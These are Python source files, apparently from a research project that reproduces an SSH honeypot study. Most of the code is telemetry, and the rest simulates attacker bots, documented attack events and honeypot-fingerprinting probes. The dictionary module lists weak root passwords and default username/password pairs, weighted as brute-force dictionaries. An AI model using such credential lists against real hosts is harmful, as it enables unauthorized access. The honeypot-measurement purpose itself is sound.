            format_table(
                ["counter", "value"],
                [[name, counters[name]] for name in sorted(counters)],
            )
        )
    else:
        parts.append("(none)")
    parts.append("")

    timeline = _mode_timeline_rows(counters)
    if timeline:
        parts.append("## Degraded-mode timeline")
        parts.append("")
        parts.append(
            "Stream supervision ladder transitions, in day order "
            "(reconstructed from `stream.mode.timeline.*` counters)."
        )
        parts.append("")
        parts.append(
            format_table(["day", "transition", "reason", "count"], timeline)
        )
        parts.append("")

    gauges = document.get("gauges", {})
    if gauges:
        parts.append("## Gauges")
        parts.append("")
        parts.append(
            format_table(
                ["gauge", "value"],
                [[name, gauges[name]] for name in sorted(gauges)],
            )
        )
        parts.append("")

    histograms = document.get("histograms", {})
    if histograms:
        parts.append("## Histograms")
        parts.append("")
        rows = []
        for name in sorted(histograms):
            data = histograms[name]
            rows.append(
                [
                    name,
                    data["count"],
                    f"{data['sum']:g}",
                    _histogram_sketch(data),
                ]
            )
        parts.append(format_table(["histogram", "n", "sum", "buckets"], rows))
        parts.append("")

    spans = document.get("spans", {})
    if spans:
        parts.append("## Spans")
        parts.append("")
        ordered = sorted(
            spans.items(), key=lambda item: item[1]["total_s"], reverse=True
        )
        rows = []
        for path, stats in ordered:
            mean_ms = 1000.0 * stats["total_s"] / stats["count"]
            rows.append(
                [
                    path,
                    stats["count"],
                    f"{stats['total_s'] * 1000.0:.1f}",
                    f"{mean_ms:.2f}",
                    f"{(stats['max_s'] or 0.0) * 1000.0:.2f}",
                ]
            )
        parts.append(
            format_table(
                ["span", "count", "total ms", "mean ms", "max ms"], rows
            )
        )
        parts.append("")

    profiles = document.get("profiles", {})
    for name in sorted(profiles):
        parts.append(f"## Profile: {name}")
        parts.append("")
        parts.append("```")
        parts.append(profiles[name].rstrip())
        parts.append("```")
        parts.append("")

    return "\n".join(parts).rstrip() + "\n"
