"""Nestable timing spans over a low-overhead monotonic clock.

A span is a ``with`` block; nesting builds slash-separated paths
(``sim.run/sim.day``) on the owning registry's span stack, and closing
a span folds its elapsed time into the per-path :class:`SpanStats`
aggregate.  Only aggregates are kept — no per-event list — so a span
in a hot loop costs two ``perf_counter`` calls and a dict update, and
the memory footprint is bounded by the number of distinct paths.

When telemetry is disabled, :func:`repro.telemetry.span` returns the
shared :data:`NULL_SPAN` whose enter/exit do nothing at all.
"""

from __future__ import annotations

from time import perf_counter
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.telemetry.metrics import MetricsRegistry


class _NullSpan:
    """Zero-cost stand-in used while telemetry is disabled."""

    __slots__ = ()

    def __enter__(self) -> "_NullSpan":
        return self

    def __exit__(self, *exc_info) -> bool:
        return False


#: Shared no-op context manager (safe to reuse: it carries no state).
NULL_SPAN = _NullSpan()


class Span:
    """One timed region; records into ``registry`` on exit.

    The elapsed time is recorded even when the body raises, so reports
    still account for work done before a failure.
    """

    __slots__ = ("registry", "name", "_path", "_started")

    def __init__(self, registry: "MetricsRegistry", name: str) -> None:
        self.registry = registry
        self.name = name
        self._path = ""
        self._started = 0.0

    def __enter__(self) -> "Span":
        stack = self.registry._span_stack
        stack.append(self.name)
        self._path = "/".join(stack)
        self._started = perf_counter()
        return self

    def __exit__(self, *exc_info) -> bool:
        elapsed = perf_counter() - self._started
        self.registry._span_stack.pop()
        self.registry.record_span(self._path, elapsed)
        return False
