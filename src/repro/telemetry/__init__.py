"""Process-local telemetry: metrics, spans and optional profiling.

The paper's longitudinal claims rest on per-stage accounting of the
collection pipeline (outage windows, per-sensor coverage, session
volumes); this package gives every run that accounting as a side
channel.  Usage::

    from repro import telemetry

    registry = telemetry.enable()           # opt in (off by default)
    result = run_simulation(config)         # hot paths record into it
    document = telemetry.telemetry_document(
        telemetry.disable(), meta={"seed": config.seed}
    )

Design constraints (enforced by ``tests/test_telemetry.py``):

* **Observational only.**  Telemetry never touches a random stream,
  never mutates a record, and is excluded from config fingerprints,
  dataset cache keys and digests.  Outputs are byte-identical with
  telemetry on or off.
* **Off by default, near-zero when off.**  Every recording helper
  checks one module global and returns; ``span()`` hands back a shared
  no-op context manager.
* **Mergeable.**  Shard workers record into shard-local registries
  which the parallel engine merges in shard order (mirroring
  ``Collector.absorb``), so counters and histograms equal the serial
  run's exactly.  Metrics that only exist because of the parallel
  machinery itself live under the ``parallel.`` and
  ``collector.absorb.`` prefixes and are excluded from that
  equivalence (see :func:`comparable_view`).

Layering: ``telemetry`` imports only ``util`` (like ``util`` itself,
any layer may use it).
"""

from __future__ import annotations

from repro.telemetry.metrics import (
    BACKOFF_BOUNDS,
    SECONDS_BOUNDS,
    VOLUME_BOUNDS,
    Histogram,
    MetricsRegistry,
    SpanStats,
)
from repro.telemetry.profiler import profile_stage
from repro.telemetry.report import (
    run_report_markdown,
    telemetry_document,
    write_telemetry_json,
)
from repro.telemetry.spans import NULL_SPAN, Span

__all__ = [
    "BACKOFF_BOUNDS",
    "SECONDS_BOUNDS",
    "VOLUME_BOUNDS",
    "Histogram",
    "MetricsRegistry",
    "SpanStats",
    "Span",
    "NULL_SPAN",
    "MERGE_ONLY_PREFIXES",
    "enable",
    "disable",
    "active",
    "collecting",
    "count",
    "gauge",
    "observe",
    "span",
    "profile",
    "comparable_view",
    "telemetry_document",
    "run_report_markdown",
    "write_telemetry_json",
]

#: Metric-name prefixes that describe the execution *engine* rather
#: than the simulated pipeline.  They legitimately differ between a
#: serial run and a parallel run of the same config (the parent's
#: absorb bookkeeping only exists when shards are merged, checkpoint
#: cadence is day-based serially but shard-boundary-based in parallel,
#: and watchdog breaches depend on wall-clock scheduling; store
#: counters track artifact-tree persistence, which is engine-external
#: bookkeeping), so the differential suite compares registries with
#: these filtered out.
#: The admission counters (``overload.admitted/shed/deferred``) are
#: deliberately NOT here: shedding verdicts are seeded per record, so
#: both engines must agree on them exactly.
#: ``stream.*`` counters describe the supervision layer of the stream
#: engine (queue depths, breaker/mode transitions, heartbeat breaches)
#: — supervision exists only on that engine, so they are engine-class
#: metrics too.  ``service.*`` counters describe the query/status
#: service (cache traffic, overload rejections, stale serves, snapshot
#: publication) — the service is an optional attachment whose presence
#: must not change the comparable view, so its whole catalog is
#: engine-class.
MERGE_ONLY_PREFIXES = (
    "parallel.",
    "collector.absorb.",
    "checkpoint.",
    "overload.watchdog.",
    "store.",
    "stream.",
    "service.",
)

#: The currently active registry, or None while telemetry is disabled.
_ACTIVE: MetricsRegistry | None = None


def enable(profile: bool = False) -> MetricsRegistry:
    """Activate a fresh registry (replacing any active one)."""
    global _ACTIVE
    _ACTIVE = MetricsRegistry(profiling=profile)
    return _ACTIVE


def disable() -> MetricsRegistry | None:
    """Deactivate telemetry; returns the final registry (if any)."""
    global _ACTIVE
    registry, _ACTIVE = _ACTIVE, None
    return registry


def active() -> MetricsRegistry | None:
    """The active registry, or None — hot loops hoist this lookup."""
    return _ACTIVE


class collecting:
    """``with telemetry.collecting() as registry:`` — scoped enable.

    Restores the previously active registry (usually None) on exit, so
    tests and benchmarks cannot leak an enabled registry.
    """

    def __init__(self, profile: bool = False) -> None:
        self._profile = profile
        self._previous: MetricsRegistry | None = None
        self.registry: MetricsRegistry | None = None

    def __enter__(self) -> MetricsRegistry:
        global _ACTIVE
        self._previous = _ACTIVE
        self.registry = enable(profile=self._profile)
        return self.registry

    def __exit__(self, *exc_info) -> bool:
        global _ACTIVE
        _ACTIVE = self._previous
        return False


def count(name: str, n: int = 1) -> None:
    """Add ``n`` to counter ``name`` (no-op while disabled)."""
    registry = _ACTIVE
    if registry is not None:
        registry.count(name, n)


def gauge(name: str, value: float) -> None:
    """Set gauge ``name`` (no-op while disabled)."""
    registry = _ACTIVE
    if registry is not None:
        registry.gauge(name, value)


def observe(
    name: str, value: float, bounds: tuple[float, ...] = VOLUME_BOUNDS
) -> None:
    """Record ``value`` into histogram ``name`` (no-op while disabled)."""
    registry = _ACTIVE
    if registry is not None:
        registry.observe(name, value, bounds)


def span(name: str):
    """A timed span context manager (shared no-op while disabled)."""
    registry = _ACTIVE
    if registry is None:
        return NULL_SPAN
    return Span(registry, name)


def profile(name: str):
    """A cProfile capture for stage ``name`` iff profiling is on."""
    return profile_stage(_ACTIVE, name)


def comparable_view(export: dict) -> dict:
    """The deterministic slice of an exported registry.

    Keeps counters and histograms (whose values are functions of the
    config alone) and drops engine-shaped metrics (``parallel.*``,
    ``collector.absorb.*``) plus everything timing-valued (spans,
    gauges, profiles).  Two runs of the same config — serial or
    sharded, any worker count — must agree on this view exactly, up to
    float summation order in histogram sums.
    """
    return {
        "counters": {
            name: value
            for name, value in export.get("counters", {}).items()
            if not name.startswith(MERGE_ONLY_PREFIXES)
        },
        "histograms": {
            name: data
            for name, data in export.get("histograms", {}).items()
            if not name.startswith(MERGE_ONLY_PREFIXES)
        },
    }
