"""Optional cProfile capture around named pipeline stages.

Profiling is a second opt-in on top of telemetry itself
(``telemetry.enable(profile=True)``): spans answer *where the time
went between stages*, the profiler answers *where it went inside one*.
Each profiled stage stores a short pstats summary (top functions by
cumulative time) on the registry, which the run report renders as a
code block.

cProfile cannot nest, so an inner :func:`profile_stage` inside an
already-profiled stage degrades to a no-op rather than raising — the
outer capture already covers the inner frames.
"""

from __future__ import annotations

import cProfile
import io
import pstats
from typing import TYPE_CHECKING

from repro.telemetry.spans import NULL_SPAN

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.telemetry.metrics import MetricsRegistry

#: Functions listed per profiled stage in the run report.
PROFILE_TOP_N = 15


class ProfiledStage:
    """Context manager capturing a cProfile run for one stage."""

    __slots__ = ("registry", "name", "_profile")

    def __init__(self, registry: "MetricsRegistry", name: str) -> None:
        self.registry = registry
        self.name = name
        self._profile: cProfile.Profile | None = None

    def __enter__(self) -> "ProfiledStage":
        self.registry._profile_depth += 1
        if self.registry._profile_depth == 1:
            self._profile = cProfile.Profile()
            self._profile.enable()
        return self

    def __exit__(self, *exc_info) -> bool:
        if self._profile is not None:
            self._profile.disable()
            buffer = io.StringIO()
            stats = pstats.Stats(self._profile, stream=buffer)
            stats.sort_stats("cumulative").print_stats(PROFILE_TOP_N)
            self.registry.profiles[self.name] = buffer.getvalue()
        self.registry._profile_depth -= 1
        return False


def profile_stage(registry: "MetricsRegistry | None", name: str):
    """A cProfile capture for ``name`` iff profiling is switched on."""
    if registry is None or not registry.profiling:
        return NULL_SPAN
    return ProfiledStage(registry, name)
