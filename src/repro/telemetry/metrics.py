"""Process-local metrics: counters, gauges and fixed-bucket histograms.

The registry is deliberately boring: plain dictionaries of plain
numbers, no background threads, no sampling.  What makes it useful for
this codebase is the *merge algebra* — every metric kind merges by a
simple associative operation (integer addition for counters and
histogram bucket counts, last-write for gauges), so shard-local
registries collected by the parallel engine can be folded together in
shard order and reproduce exactly what a serial run would have counted.
That associativity is property-tested in
``tests/test_telemetry_properties.py``.

Histograms use *fixed* bucket layouts (named below) rather than
adaptive ones: two histograms can only be merged when their layouts are
identical, and fixing the layout per metric family guarantees that is
always the case across workers and across runs.
"""

from __future__ import annotations

from bisect import bisect_left
from dataclasses import dataclass, field

__all__ = [
    "VOLUME_BOUNDS",
    "SECONDS_BOUNDS",
    "BACKOFF_BOUNDS",
    "Histogram",
    "SpanStats",
    "MetricsRegistry",
]

#: Session/record volumes per unit of work (per day, per shard, ...).
VOLUME_BOUNDS = (0, 1, 2, 5, 10, 20, 50, 100, 200, 500, 1000, 2000, 5000)

#: Wall-clock durations in seconds (spans use :class:`SpanStats`;
#: this layout serves duration-valued histograms such as stage times).
SECONDS_BOUNDS = (
    0.0001, 0.0005, 0.001, 0.005, 0.01, 0.05, 0.1, 0.5, 1.0, 5.0, 10.0, 60.0
)

#: Simulated transport backoff delays in seconds (see RetryPolicy:
#: base 0.5s doubling to a 30s cap, with equal jitter).
BACKOFF_BOUNDS = (0.25, 0.5, 1.0, 2.0, 4.0, 8.0, 16.0, 30.0, 60.0)


class Histogram:
    """A fixed-layout histogram: bucket ``i`` counts values ``v`` with
    ``bounds[i-1] < v <= bounds[i]``; one overflow bucket catches the
    rest.  Also tracks count/sum/min/max for summary lines.
    """

    __slots__ = ("bounds", "counts", "count", "sum", "min", "max")

    def __init__(self, bounds: tuple[float, ...]) -> None:
        if not bounds or any(
            b <= a for a, b in zip(bounds, bounds[1:])
        ):
            raise ValueError(
                f"histogram bounds must be strictly increasing: {bounds!r}"
            )
        self.bounds = tuple(bounds)
        self.counts = [0] * (len(bounds) + 1)
        self.count = 0
        self.sum = 0.0
        self.min: float | None = None
        self.max: float | None = None

    def observe(self, value: float) -> None:
        self.counts[bisect_left(self.bounds, value)] += 1
        self.count += 1
        self.sum += value
        if self.min is None or value < self.min:
            self.min = value
        if self.max is None or value > self.max:
            self.max = value

    def merge(self, other: "Histogram") -> None:
        """Fold ``other`` into this histogram (layouts must match)."""
        if self.bounds != other.bounds:
            raise ValueError(
                "cannot merge histograms with different bucket layouts: "
                f"{self.bounds!r} != {other.bounds!r}"
            )
        self.counts = [a + b for a, b in zip(self.counts, other.counts)]
        self.count += other.count
        self.sum += other.sum
        if other.min is not None:
            self.min = other.min if self.min is None else min(self.min, other.min)
        if other.max is not None:
            self.max = other.max if self.max is None else max(self.max, other.max)

    def to_dict(self) -> dict:
        return {
            "bounds": list(self.bounds),
            "counts": list(self.counts),
            "count": self.count,
            "sum": self.sum,
            "min": self.min,
            "max": self.max,
        }

    @classmethod
    def from_dict(cls, data: dict) -> "Histogram":
        histogram = cls(tuple(data["bounds"]))
        histogram.counts = list(data["counts"])
        histogram.count = data["count"]
        histogram.sum = data["sum"]
        histogram.min = data["min"]
        histogram.max = data["max"]
        return histogram


@dataclass
class SpanStats:
    """Aggregate timing of one span path (count + total/min/max)."""

    count: int = 0
    total_s: float = 0.0
    min_s: float | None = None
    max_s: float | None = None

    def record(self, elapsed_s: float) -> None:
        self.count += 1
        self.total_s += elapsed_s
        if self.min_s is None or elapsed_s < self.min_s:
            self.min_s = elapsed_s
        if self.max_s is None or elapsed_s > self.max_s:
            self.max_s = elapsed_s

    def merge(self, other: "SpanStats") -> None:
        self.count += other.count
        self.total_s += other.total_s
        if other.min_s is not None:
            self.min_s = (
                other.min_s if self.min_s is None else min(self.min_s, other.min_s)
            )
        if other.max_s is not None:
            self.max_s = (
                other.max_s if self.max_s is None else max(self.max_s, other.max_s)
            )

    def to_dict(self) -> dict:
        return {
            "count": self.count,
            "total_s": self.total_s,
            "min_s": self.min_s,
            "max_s": self.max_s,
        }

    @classmethod
    def from_dict(cls, data: dict) -> "SpanStats":
        return cls(
            count=data["count"],
            total_s=data["total_s"],
            min_s=data["min_s"],
            max_s=data["max_s"],
        )


@dataclass
class MetricsRegistry:
    """One process-local bag of metrics.

    Strictly observational: nothing in the registry feeds back into the
    simulation, no random stream is touched, and the registry is never
    part of a config fingerprint, cache key or dataset digest.
    """

    counters: dict[str, int] = field(default_factory=dict)
    gauges: dict[str, float] = field(default_factory=dict)
    histograms: dict[str, Histogram] = field(default_factory=dict)
    spans: dict[str, SpanStats] = field(default_factory=dict)
    profiles: dict[str, str] = field(default_factory=dict)
    profiling: bool = False
    _span_stack: list[str] = field(default_factory=list, repr=False)
    _profile_depth: int = 0

    # ------------------------------------------------------------------
    # recording
    # ------------------------------------------------------------------
    def count(self, name: str, n: int = 1) -> None:
        self.counters[name] = self.counters.get(name, 0) + n

    def gauge(self, name: str, value: float) -> None:
        self.gauges[name] = value

    def observe(
        self, name: str, value: float, bounds: tuple[float, ...] = VOLUME_BOUNDS
    ) -> None:
        histogram = self.histograms.get(name)
        if histogram is None:
            histogram = self.histograms[name] = Histogram(bounds)
        histogram.observe(value)

    def record_span(self, path: str, elapsed_s: float) -> None:
        stats = self.spans.get(path)
        if stats is None:
            stats = self.spans[path] = SpanStats()
        stats.record(elapsed_s)

    # ------------------------------------------------------------------
    # merging (shard-local registries fold into the parent in shard order)
    # ------------------------------------------------------------------
    def merge(self, other: "MetricsRegistry") -> None:
        for name, value in other.counters.items():
            self.counters[name] = self.counters.get(name, 0) + value
        self.gauges.update(other.gauges)
        for name, histogram in other.histograms.items():
            mine = self.histograms.get(name)
            if mine is None:
                copy = Histogram(histogram.bounds)
                copy.merge(histogram)
                self.histograms[name] = copy
            else:
                mine.merge(histogram)
        for path, stats in other.spans.items():
            mine_stats = self.spans.get(path)
            if mine_stats is None:
                self.spans[path] = SpanStats(
                    stats.count, stats.total_s, stats.min_s, stats.max_s
                )
            else:
                mine_stats.merge(stats)
        self.profiles.update(other.profiles)

    def merge_export(self, export: dict) -> None:
        """Merge a registry previously serialized with :meth:`export`."""
        self.merge(MetricsRegistry.from_export(export))

    # ------------------------------------------------------------------
    # serialization
    # ------------------------------------------------------------------
    def export(self) -> dict:
        """Plain-data snapshot (picklable/JSON-able) of every metric."""
        return {
            "counters": dict(self.counters),
            "gauges": dict(self.gauges),
            "histograms": {
                name: histogram.to_dict()
                for name, histogram in self.histograms.items()
            },
            "spans": {
                path: stats.to_dict() for path, stats in self.spans.items()
            },
            "profiles": dict(self.profiles),
        }

    @classmethod
    def from_export(cls, export: dict) -> "MetricsRegistry":
        registry = cls()
        registry.counters = dict(export.get("counters", {}))
        registry.gauges = dict(export.get("gauges", {}))
        registry.histograms = {
            name: Histogram.from_dict(data)
            for name, data in export.get("histograms", {}).items()
        }
        registry.spans = {
            path: SpanStats.from_dict(data)
            for path, data in export.get("spans", {}).items()
        }
        registry.profiles = dict(export.get("profiles", {}))
        return registry
