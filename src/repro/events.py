"""Documented external events correlated with mdrfckr activity drops.

Paper section 10 ("Events correlation") lists eight windows in which the
mdrfckr actor's honeynet activity collapsed from ~100k to ~100 sessions
per day, each coinciding with a documented attack campaign.  Both the
simulator (which suppresses the bot in these windows) and the analysis
(which detects drops and correlates them) import this single list.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date


@dataclass(frozen=True)
class ExternalEvent:
    """One documented event window."""

    start: date
    end: date
    description: str


#: The paper's eight documented windows, in chronological order.
DOCUMENTED_EVENTS: tuple[ExternalEvent, ...] = (
    ExternalEvent(
        date(2022, 3, 16), date(2022, 3, 24),
        "Pro-Russian DDoS attacks against Ukrainian infrastructure (IRIDIUM)",
    ),
    ExternalEvent(
        date(2022, 4, 2), date(2022, 4, 12),
        "Continued attacks against Ukrainian infrastructure",
    ),
    ExternalEvent(
        date(2022, 8, 1), date(2022, 8, 2),
        "Hits on infrastructure of a European country supporting Ukraine",
    ),
    ExternalEvent(
        date(2022, 10, 10), date(2022, 10, 16),
        "Sandworm attack on Ukrainian power grid; Killnet DDoS on US airports",
    ),
    ExternalEvent(
        date(2023, 3, 2), date(2023, 3, 10),
        "Attack against KyivStar (largest Ukrainian mobile operator)",
    ),
    ExternalEvent(
        date(2023, 9, 1), date(2023, 9, 8),
        "DDoS attacks against Ukrainian public administration and media",
    ),
    ExternalEvent(
        date(2024, 1, 19), date(2024, 1, 21),
        "APT29 (Midnight Blizzard) data-theft attack",
    ),
    ExternalEvent(
        date(2024, 4, 4), date(2024, 4, 10),
        "Sandworm attack against Ukrainian infrastructure",
    ),
)


def event_windows() -> list[tuple[date, date]]:
    """Just the (start, end) pairs, for activity suppression."""
    return [(event.start, event.end) for event in DOCUMENTED_EVENTS]
