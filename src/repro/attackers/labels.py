"""Ground-truth mapping: bot name → expected Table-1 category.

The simulator knows which actor produced every session (`bot_label`);
the classifier never sees that.  This mapping states, for each bot,
which category its sessions are *designed* to land in — the contract
between the generative and forensic sides, used by the validation
experiment and the test suite.

Bots whose sessions carry no commands (scanners, scouting brute force,
silent intruders, the 3245gs5662d34 campaign, the richard prober) have
no category: classification only applies to command sessions.
"""

from __future__ import annotations

#: bot name → expected category for its command sessions.
EXPECTED_CATEGORY: dict[str, str] = {
    "echo_OK": "echo_ok",
    "echo_ok_txt": "echo_ok_txt",
    "echo_ssh_check": "echo_ssh_check",
    "echo_os_check": "echo_os_check",
    "uname_a": "uname_a",
    "uname_svnrm": "uname_svnrm",
    "uname_svnr": "uname_svnr",
    "uname_svnr_model": "uname_svnr_model",
    "uname_a_nproc": "uname_a_nproc",
    "uname_snri_nproc": "uname_snri_nproc",
    "bbox_scout_cat": "bbox_scout_cat",
    "ak47_scout": "ak47_scout",
    "shell_fp": "shell_fp",
    "binx86": "binx86",
    "export_vei": "export_vei",
    "cloud_print": "cloud_print",
    "juicessh": "juicessh",
    "mdrfckr": "mdrfckr",
    "mdrfckr_variant": "mdrfckr",
    "mdrfckr_base64": "mdrfckr",
    "workminer": "gen_echo",
    "gen_wget": "gen_wget",
    "gen_curl_wget": "gen_curl_wget",
    "gen_echo_wget": "gen_echo_wget",
    "gen_ftp_wget": "gen_ftp_wget",
    "gen_curl_echo_ftp_wget": "gen_curl_echo_ftp_wget",
    "gen_curl_ftp_wget": "gen_curl_ftp_wget",
    "gen_echo_ftp_wget": "gen_echo_ftp_wget",
    "gen_curl_echo_wget": "gen_curl_echo_wget",
    "gen_echo": "gen_echo",
    "gen_curl": "gen_curl",
    "gen_ftp": "gen_ftp",
    "gen_curl_echo": "gen_curl_echo",
    "gen_echo_ftp": "gen_echo_ftp",
    "gen_curl_echo#noexec": "gen_curl_echo",
    "gen_curl_wget#noexec": "gen_curl_wget",
    "gen_curl#noexec": "gen_curl",
    "gen_echo#noexec": "gen_echo",
    "direct_exec": "unknown",
    "root_17_char_pwd": "root_17_char_pwd",
    "root_12_char_capscout": "root_12_char_capscout",
    "root_12_char_echo321": "root_12_char_echo321",
    "openssl_passwd": "openssl_passwd",
    "clamav": "clamav",
    "lenni_0451": "lenni_0451",
    "stx_miner": "stx_miner",
    "perl_dred_miner": "perl_dred_miner",
    "fslur_attack": "fslur_attack",
    "gslur_echo": "gslur_echo",
    "ohshit_attack": "ohshit_attack",
    "onions_attack": "onions_attack",
    "sora_attack": "sora_attack",
    "heisen_attack": "heisen_attack",
    "zeus_attack": "zeus_attack",
    "update_attack": "update_attack",
    "wget_dget": "wget_dget",
    "rm_obf_pattern_1": "rm_obf_pattern_1",
    "rm_obf_pattern_7": "rm_obf_pattern_7",
    "passwd123_daemon": "passwd123_daemon",
    "rapperbot": "rapperbot",
    "bbox_5_char_v2": "bbox_5_char_v2",
    "bbox_unlabelled": "bbox_unlabelled",
    "bbox_loaderwget": "bbox_loaderwget",
    "bbox_echo_elf": "bbox_echo_elf",
    "bbox_rand_exec": "bbox_rand_exec",
    "bbox_rand_exec#noexec": "bbox_rand_exec",
    "gafgyt_wave": "gen_ftp_wget",
    "mirai_wave": "bbox_5_char_v2",
    "mirai_coinminer": "gen_echo_wget",
    "xorddos": "gen_echo",
    "tvbox_dreambox": "gen_wget",
    "tvbox_vertex25ektks123": "gen_wget",
    "curl_maxred": "curl_maxred",
    "phil_scanner": "unknown",
}

#: Bots that produce no command sessions (never classified).
COMMANDLESS_BOTS: frozenset[str] = frozenset(
    {
        "scanner",
        "scout_bruteforce",
        "silent_intruder",
        "login_3245gs5662d34",
        "richard_scanner",
    }
)
