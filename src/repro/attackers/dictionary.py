"""Credential dictionaries shared across bots.

Drives Figure 10's password ranking: after the 3245gs5662d34 campaign,
``1234`` and ``admin`` dominate successful-root-login passwords, with a
long tail of classic brute-force dictionary entries.
"""

from __future__ import annotations

import random

from repro.util.rng import weighted_choice

#: Passwords offered with ``root`` by ordinary command bots / intruders.
#: All of these are accepted by the honeypot policy (anything but the
#: literal "root" succeeds); naive dictionaries that do try "root" are
#: modelled by the scouting credential table below.
ROOT_PASSWORDS: list[tuple[str, float]] = [
    ("1234", 0.22),
    ("admin", 0.20),
    ("123456", 0.12),
    ("password", 0.08),
    ("12345678", 0.06),
    ("qwerty", 0.04),
    ("1qaz2wsx", 0.03),
    ("admin123", 0.03),
    ("root123", 0.03),
    ("toor", 0.02),
    ("changeme", 0.02),
    ("default", 0.02),
    ("111111", 0.02),
    ("abc123", 0.02),
    ("letmein", 0.02),
    ("pass", 0.02),
    ("12345", 0.02),
    ("666666", 0.01),
    ("system", 0.01),
    ("vizxv", 0.01),
]

#: Usernames tried by scouting brute-forcers (all rejected except root,
#: and root only fails here because the password offered is "root").
SCOUT_CREDENTIALS: list[tuple[tuple[str, str], float]] = [
    (("root", "root"), 0.30),
    (("admin", "admin"), 0.18),
    (("user", "user"), 0.08),
    (("pi", "raspberry"), 0.07),
    (("test", "test"), 0.07),
    (("oracle", "oracle"), 0.05),
    (("ubnt", "ubnt"), 0.05),
    (("guest", "guest"), 0.05),
    (("postgres", "postgres"), 0.04),
    (("git", "git"), 0.04),
    (("ftpuser", "ftpuser"), 0.03),
    (("support", "support"), 0.03),
    (("nagios", "nagios"), 0.03),
    (("deploy", "deploy"), 0.02),
    (("www", "www"), 0.02),
    (("mysql", "mysql"), 0.02),
]


def root_credential(rng: random.Random) -> tuple[str, str]:
    """A ``root`` + dictionary-password pair (usually accepted)."""
    password = weighted_choice(rng, ROOT_PASSWORDS)
    return ("root", str(password))


def scout_credential(rng: random.Random) -> tuple[str, str]:
    """A credential pair that the honeypot policy rejects."""
    pair = weighted_choice(rng, SCOUT_CREDENTIALS)
    return tuple(pair)  # type: ignore[return-value]
