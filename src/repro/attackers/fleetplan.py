"""Assembles the complete bot roster for a simulation run."""

from __future__ import annotations

from repro.attackers.base import Bot
from repro.attackers.bots.busybox_bots import (
    Bbox5CharBot,
    BboxEchoElfBot,
    BboxLoaderWgetBot,
    BboxRandExecBot,
    BboxUnlabelledBot,
)
from repro.attackers.bots.curl_proxy import CurlMaxredBot
from repro.attackers.bots.families import build_family_bots
from repro.attackers.bots.honeypot_hunters import PhilScannerBot, RichardScannerBot
from repro.attackers.bots.loaders import build_gen_loader_bots
from repro.attackers.bots.mdrfckr import (
    Login3245Bot,
    MdrfckrBase64Bot,
    MdrfckrBot,
    MdrfckrVariantBot,
    WorkMinerBot,
)
from repro.attackers.bots.miners import build_miner_bots
from repro.attackers.bots.named_campaigns import build_named_campaign_bots
from repro.attackers.bots.scanners import (
    ScannerBot,
    ScoutBruteforceBot,
    SilentIntruderBot,
)
from repro.attackers.bots.scouts import build_scout_bots
from repro.attackers.bots.tvbox import build_tvbox_bots
from repro.config import SimulationConfig
from repro.net.population import BasePopulation
from repro.util.rng import RngTree


def build_fleet(
    population: BasePopulation, tree: RngTree, config: SimulationConfig
) -> list[Bot]:
    """Every attacker behaviour active during the observation window."""
    bots: list[Bot] = []

    # background volume (scanning / scouting / silent intrusions)
    bots.append(ScannerBot(population, tree, config))
    bots.append(ScoutBruteforceBot(population, tree, config))
    bots.append(SilentIntruderBot(population, tree, config))

    # non-state-changing command bots (Figure 2)
    bots.extend(build_scout_bots(population, tree, config))

    # the mdrfckr actor and its satellites (section 9)
    mdrfckr = MdrfckrBot(population, tree, config)
    bots.append(mdrfckr)
    bots.append(MdrfckrVariantBot(mdrfckr, config))
    bots.append(MdrfckrBase64Bot(mdrfckr, population, tree, config))
    bots.append(Login3245Bot(mdrfckr, population, tree, config))
    bots.append(WorkMinerBot(population, tree, config))

    # state-changing rosters (Figures 3 and 4)
    bots.extend(build_gen_loader_bots(population, tree, config))
    bots.extend(build_miner_bots(population, tree, config))
    bots.extend(build_named_campaign_bots(population, tree, config))
    bots.append(Bbox5CharBot(population, tree, config))
    bots.append(BboxUnlabelledBot(population, tree, config))
    bots.append(BboxLoaderWgetBot(population, tree, config))
    bots.append(BboxEchoElfBot(population, tree, config))
    bots.append(BboxRandExecBot(population, tree, config, exec_file=True))
    bots.append(BboxRandExecBot(population, tree, config, exec_file=False))

    # family clusters (Figure 6) and special campaigns
    bots.extend(build_family_bots(population, tree, config))
    bots.extend(build_tvbox_bots(population, tree, config))
    bots.append(CurlMaxredBot(population, tree, config))
    bots.append(PhilScannerBot(population, tree, config))
    bots.append(RichardScannerBot(population, tree, config))

    names = [bot.name for bot in bots]
    if len(names) != len(set(names)):
        duplicates = sorted({n for n in names if names.count(n) > 1})
        raise ValueError(f"duplicate bot names in fleet: {duplicates}")
    return bots


def find_bot(bots: list[Bot], name: str) -> Bot:
    """Look up one bot by ground-truth name."""
    for bot in bots:
        if bot.name == name:
            return bot
    raise KeyError(name)
