"""Honeypot fingerprinting via Cowrie default accounts (section 8).

The usernames ``phil`` (current Cowrie default) and ``richard`` (the
pre-2020 default) are probed from a broad, distributed IP population.
``phil`` logins *succeed* on this deployment, and in >90 % of those
sessions the client disconnects immediately without a command — the
signature of deliberate honeypot detection, not compromise attempts.
"""

from __future__ import annotations

import random
from datetime import date

from repro.attackers.activity import ConstantRate, LinearTrend, SumRate
from repro.attackers.base import Bot, BotContext
from repro.attackers.ippool import ClientIPPool
from repro.config import SimulationConfig
from repro.honeypot.session import ConnectionIntent
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

#: Fraction of successful phil logins that issue no command at all.
PHIL_SILENT_FRACTION = 0.92


class PhilScannerBot(Bot):
    """Fingerprints Cowrie by logging in as the default user ``phil``."""

    min_expected_per_day = 0.08

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "phil_scanner", population, tree, paper_ips=10_000,
            scale=config.scale, min_size=30,
        )
        super().__init__(
            "phil_scanner",
            ConstantRate(30, config.start, config.end),
            pool,
        )

    def client_ip(self, rng: random.Random) -> str:
        # broad probing: IPs are barely reused
        return self.pool.pick_uniform(rng)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        commands: tuple[str, ...] = ()
        if rng.random() > PHIL_SILENT_FRACTION:
            commands = (rng.choice(("whoami", "id")),)
        return self.make_intent(
            rng,
            credentials=(("phil", rng.choice(("phil", "123456", "fout"))),),
            command_lines=commands,
            duration_s=rng.uniform(0.2, 2.0),
        )


class RichardScannerBot(Bot):
    """Probes the legacy default ``richard`` (always rejected here)."""

    min_expected_per_day = 0.12

